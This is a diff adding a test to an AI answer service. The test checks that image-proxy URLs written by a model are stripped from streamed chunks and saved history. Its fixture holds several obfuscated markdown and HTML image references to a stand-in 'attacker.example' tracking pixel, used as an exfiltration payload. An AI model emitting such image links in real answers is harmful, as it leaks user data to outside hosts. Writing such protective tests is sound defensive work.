@@ -165,4 +165,42 @@ describe("an answer turn's stored parts", () => {
       { type: "text", text: "Yes." },
     ]);
   });
+
+  it("the probe: image proxy URLs a model writes never reach the stream, the saved turn or its results (G14)", async () => {
+    const { cookie, userId } = await h.signIn("answer-model-images@acme.com");
+    // A signed URL as an attacker could copy it from a page of this server.
+    const signed = h.deps.images.sign("http://attacker.example/pixel.png?victim=answer") ?? "";
+    const query = signed.slice(signed.indexOf("?"));
+    const hostile = [
+      `The moon [1]. ![a](${signed} "title")`,
+      `![b][pic] <img src="${signed}" alt="c"> <http://localhost:3000${signed}>`,
+      `![d](%2Fapi%2Fimage${query}) ![e](/api/./image${query.replace("&", "&amp;")})`,
+      "",
+      `[pic]: ${signed}`,
+    ].join("\n");
+    answers.push({ kind: "text", text: hostile, reasoningContent: `Think ![r](${signed})` });
+    const chunks = await ask({ text: "What causes tides?", reasoning: true }, cookie);
+    const signature = signed.slice(signed.indexOf("&s=") + 3);
+    const streamed = JSON.stringify(chunks.filter((c) => c.type.endsWith("-delta")));
+    expect(streamed).toContain("The moon [1].");
+    expect(streamed).not.toContain(signature);
+    expect(streamed).not.toMatch(/api(?:\/|%2F|&#x2F;|\\\/)+(?:\.\/)?image/i);
+    expect(streamed).not.toMatch(/!\[[^\]]*\]\(/);
+    const [row] = await h.db.db
+      .select()
+      .from(schema.searchHistory)
+      .where(eq(schema.searchHistory.userId, userId));
+    // (The parts also carry the sources' own favicons and images, signed here: those may stay.)
+    const results = row?.results as { markdown?: string; thinking?: string } | undefined;
+    const saved = JSON.stringify([
+      ((row?.parts ?? []) as StoredPart[]).filter(
+        (p) => p.type === "text" || p.type === "reasoning",
+      ),
+      results?.markdown,
+      results?.thinking,
+    ]);
+    expect(saved).toContain("The moon [1].");
+    expect(saved).not.toContain(signature);
+    expect(saved).not.toMatch(/api\/image/i);
+  });
 });
